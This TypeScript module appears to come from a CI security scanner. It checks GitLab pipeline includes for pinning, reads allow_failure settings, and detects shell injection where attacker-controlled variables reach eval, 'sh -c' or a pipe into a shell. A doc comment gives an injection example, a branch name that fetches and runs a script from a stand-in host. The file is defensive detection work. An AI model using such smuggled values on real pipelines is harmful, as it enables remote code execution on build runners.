import type { CiWorkflow, WorkflowJob } from '../../../src/core/evidence.js'

/** A GitLab `include:` entry as the collector records it. */
export type PipelineInclude = NonNullable<CiWorkflow['includes']>[number]

/** True for a GitLab pipeline: includes instead of actions, and variables expanded by the shell. */
export function isGitLabPipeline(workflow: CiWorkflow): boolean {
  return workflow.resourceKind === 'GitLabPipeline'
}

/**
 * Why GitLab would let the job fail without failing the pipeline when it exits with one of these
 * codes, or undefined when a failure fails the pipeline. The collector records `allow_failure: true`
 * (written, set by a rule, or a manual job's default) as `true`, and the mapping form as
 * `exit_codes: [1, 137]`.
 */
export function failureAllowed(job: WorkflowJob, exitCodes: readonly number[]): string | undefined {
  const setting = job.continueOnError
  if (setting === 'true') {
    return `job ${job.id} has allow_failure: true (written, set by a rule, or a manual job's default), so its failure does not fail the pipeline`
  }
  const listed = /^exit_codes:\s*\[(.*)\]$/.exec(setting ?? '')?.[1]
  if (listed === undefined) return undefined
  const allowed = listed.split(',').map((code) => Number(code.trim()))
  const covered = exitCodes.filter((code) => allowed.includes(code))
  return covered.length === 0
    ? undefined
    : `job ${job.id} has allow_failure: exit_codes [${allowed.join(', ')}], which covers exit code ${covered.join(', ')}, so its failure does not fail the pipeline`
}

/** GitLab's container scanning template (`Security/` or `Jobs/`, `.latest` too) or catalog component. */
export function isContainerScanningInclude(include: PipelineInclude): boolean {
  if (include.type === 'template') {
    return /^(?:Security|Jobs)\/Container-Scanning(?:\.latest)?\.gitlab-ci\.yml$/.test(include.location)
  }
  return include.type === 'component' && /\/components\/container-scanning\/[^/]+$/.test(include.location)
}

/** Names an include for messages: `project acme/ci:/build.yml@main (line 3)`. */
export function describeInclude(include: PipelineInclude): string {
  const ref = include.ref === undefined ? '' : `@${include.ref}`
  return `${include.type} ${include.location}${ref} (line ${include.line})`
}

const commitSha = /^[0-9a-f]{40}$/i

export type IncludePin = { state: 'exempt' | 'pinned' } | { state: 'unpinned'; reason: string }

/**
 * Whether an include names immutable content. Local files are reviewed with the pipeline and templates
 * ship with GitLab itself, like `actions/*`; another project must be included at a commit SHA, a
 * component at `@<commit SHA>`, and a remote URL, which serves whatever its host serves, only with
 * `integrity:` (GitLab 17.9 and later). Groups in `trusted` (top-level, lower case) are exempt.
 */
export function includePin(include: PipelineInclude, trusted: ReadonlySet<string>): IncludePin {
  switch (include.type) {
    case 'local':
    case 'template':
      return { state: 'exempt' }
    case 'remote':
      return include.integrity !== undefined
        ? { state: 'pinned' }
        : {
            state: 'unpinned',
            reason:
              'a remote URL cannot be pinned to a commit; GitLab fetches whatever it serves at each run',
          }
    case 'project': {
      const group = include.location.split('/')[0]?.toLowerCase() ?? ''
      if (trusted.has(group)) return { state: 'exempt' }
      if (include.ref !== undefined && commitSha.test(include.ref)) return { state: 'pinned' }
      return {
        state: 'unpinned',
        reason:
          include.ref === undefined
            ? 'no ref, so it follows the default branch'
            : `ref ${include.ref} is a branch or tag, which can be moved`,
      }
    }
    case 'component': {
      // host/group/…/name: the group is the first segment after the host.
      const group = include.location.split('/')[1]?.toLowerCase() ?? ''
      if (trusted.has(group)) return { state: 'exempt' }
      if (include.ref !== undefined && commitSha.test(include.ref)) return { state: 'pinned' }
      return {
        state: 'unpinned',
        reason:
          include.ref === undefined
            ? 'no version'
            : `version ${include.ref} is a tag or moving alias, not a commit SHA`,
      }
    }
  }
}

/**
 * Predefined variables whose value anyone who can push a branch or open a merge request chooses:
 * free text and ref names (a branch may be called `x;curl${IFS}evil.sh|sh`). SHAs, ids and slugs are safe.
 */
export const attackerControlledVariables: readonly string[] = [
  'CI_MERGE_REQUEST_TITLE',
  'CI_MERGE_REQUEST_DESCRIPTION',
  'CI_MERGE_REQUEST_SOURCE_BRANCH_NAME',
  'CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME',
  'CI_COMMIT_MESSAGE',
  'CI_COMMIT_TITLE',
  'CI_COMMIT_DESCRIPTION',
  'CI_COMMIT_AUTHOR',
  'CI_COMMIT_TAG_MESSAGE',
  'CI_COMMIT_BRANCH',
  'CI_COMMIT_REF_NAME',
  'CI_COMMIT_TAG',
]

/** A part of a shell word: single-quoted text is literal, anything else has `$` expanded. */
interface WordPart {
  text: string
  expands: boolean
}

type Word = WordPart[]

/** A pipeline of simple commands, each a list of words, quotes kept as part boundaries. */
type Pipeline = Word[][]

/**
 * Just enough shell reading to tell `eval "$X"` from `eval '"$X"'`: splits a line into pipelines and
 * words, keeping which parts the shell expands. Not a shell parser: no subshells, heredocs or `$(…)`.
 */
function readShell(line: string): Pipeline[] {
  const pipelines: Pipeline[] = []
  let pipeline: Word[][] = []
  let command: Word[] = []
  let word: Word = []
  let part: WordPart | undefined
  let quote: '' | "'" | '"' = ''
  const append = (text: string, expands: boolean): void => {
    if (part === undefined || part.expands !== expands) {
      part = { text: '', expands }
      word.push(part)
    }
    part.text += text
  }
  const endWord = (): void => {
    if (word.length > 0) command.push(word)
    word = []
    part = undefined
  }
  const endCommand = (): void => {
    endWord()
    if (command.length > 0) pipeline.push(command)
    command = []
  }
  const endPipeline = (): void => {
    endCommand()
    if (pipeline.length > 0) pipelines.push(pipeline)
    pipeline = []
  }
  for (let i = 0; i < line.length; i++) {
    const char = line[i] ?? ''
    const next = line[i + 1] ?? ''
    if (quote === "'") {
      if (char === "'") quote = ''
      else append(char, false)
      continue
    }
    if (char === '\\') {
      // An escaped `$` is literal: keep a placeholder so that it matches no variable.
      append(next === '$' ? '\u0000' : next, true)
      i++
      continue
    }
    if (quote === '"') {
      if (char === '"') quote = ''
      else append(char, true)
      continue
    }
    if (char === "'" || char === '"') {
      quote = char
      // An empty quoted string is still a word.
      append('', char === '"')
      continue
    }
    if (char === '#' && word.length === 0) {
      const end = line.indexOf('\n', i)
      if (end === -1) break
      i = end - 1
      continue
    }
    if (/\s/.test(char)) {
      if (char === '\n') endPipeline()
      else endWord()
      continue
    }
    if ((char === '&' && next === '&') || (char === '|' && next === '|')) {
      endPipeline()
      i++
      continue
    }
    if (char === ';' || char === '&') {
      endPipeline()
      continue
    }
    if (char === '|') {
      endCommand()
      continue
    }
    append(char, true)
  }
  endPipeline()
  return pipelines
}

function textOf(word: Word | undefined): string {
  return (word ?? []).map((part) => part.text).join('')
}

function programOf(word: Word | undefined): string {
  const text = textOf(word)
  return text.slice(text.lastIndexOf('/') + 1)
}

/** Variables from `names` the shell expands in a word (outside single quotes). */
function expandedVariables(word: Word, names: ReadonlySet<string>): string[] {
  return word.flatMap((part) =>
    part.expands
      ? [...part.text.matchAll(/\$\{?([A-Za-z_]\w*)/g)].flatMap((match) =>
          match[1] !== undefined && names.has(match[1]) ? [match[1]] : [],
        )
      : [],
  )
}

const shells = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'ash'])
const wrappers = new Set(['sudo', 'env', 'exec', 'command', 'time', 'nohup', 'then', 'do', 'else', '!'])
const declarations = new Set(['export', 'declare', 'local', 'readonly', 'typeset'])
const assignment = /^([A-Za-z_]\w*)=/

/** A variable the shell runs as code, and how: `eval`, `sh -c` or a pipe into a shell. */
export interface ShellInjection {
  variable: string
  /** The attacker-controlled variable its value came from, when it is a copy. */
  from?: string
  via: string
}

/**
 * Reads a job's script lines in order (one shell session, as GitLab runs them) and returns where an
 * attacker-controlled variable is run as code. GitLab hands variables to the shell unexpanded, so
 * `echo "$CI_COMMIT_MESSAGE"` is data; only a second round of parsing (`eval`, `sh -c "…"`, `… | sh`)
 * turns the value into commands. Variables assigned from such a value (in `variables:` or the script)
 * count as well.
 */
export function findShellInjections(
  scripts: readonly string[],
  env: Readonly<Record<string, string>>,
): ShellInjection[][] {
  // Each tainted name with the attacker-controlled variable it holds.
  const origins = new Map(attackerControlledVariables.map((name) => [name, name]))
  const tainted = new Set(origins.keys())
  const taint = (name: string, word: Word): void => {
    const source = expandedVariables(word, tainted)[0]
    const origin = source === undefined ? undefined : origins.get(source)
    if (origin === undefined) return
    origins.set(name, origin)
    tainted.add(name)
  }
  const injection = (variable: string, via: string): ShellInjection => {
    const origin = origins.get(variable)
    return origin === undefined || origin === variable ? { variable, via } : { variable, from: origin, via }
  }
  for (const [name, value] of Object.entries(env)) taint(name, [{ text: value, expands: true }])
  return scripts.map((script) => {
    const found: ShellInjection[] = []
    const logical = script.replace(/\\\r?\n/g, ' ')
    for (const pipeline of readShell(logical)) {
      pipeline.forEach((words, position) => {
        let start = 0
        while (start < words.length) {
          const text = textOf(words[start])
          const declared = assignment.exec(text)?.[1]
          if (declared !== undefined) taint(declared, words[start] ?? [])
          if (declared !== undefined || wrappers.has(text) || declarations.has(text)) start++
          else break
        }
        const args = words.slice(start)
        const program = programOf(args[0])
        if (program === 'eval') {
          for (const word of args.slice(1)) {
            for (const variable of expandedVariables(word, tainted)) found.push(injection(variable, 'eval'))
          }
        }
        // `sh -c "…"` anywhere in the command, so `docker run img sh -c "…"` counts too; the words after
        // the command string are positional parameters (`sh -c 'echo "$1"' _ "$X"`), which are safe.
        args.forEach((word, index) => {
          const shell = programOf(word)
          if (!shells.has(shell)) return
          let flag = index + 1
          while (flag < args.length && textOf(args[flag]).startsWith('-')) {
            if (/^-[a-zA-Z]*c[a-zA-Z]*$/.test(textOf(args[flag]))) {
              for (const variable of expandedVariables(args[flag + 1] ?? [], tainted)) {
                found.push(injection(variable, `${shell} -c`))
              }
              return
            }
            flag++
          }
        })
        // `… | sh`: what earlier commands print is run as a script.
        if (position > 0 && shells.has(program) && !args.some((word) => /^-[a-zA-Z]*c/.test(textOf(word)))) {
          for (const earlier of pipeline.slice(0, position)) {
            for (const word of earlier) {
              for (const variable of expandedVariables(word, tainted)) {
                found.push(injection(variable, `a pipe into ${program}`))
              }
            }
          }
        }
      })
    }
    return found
  })
}
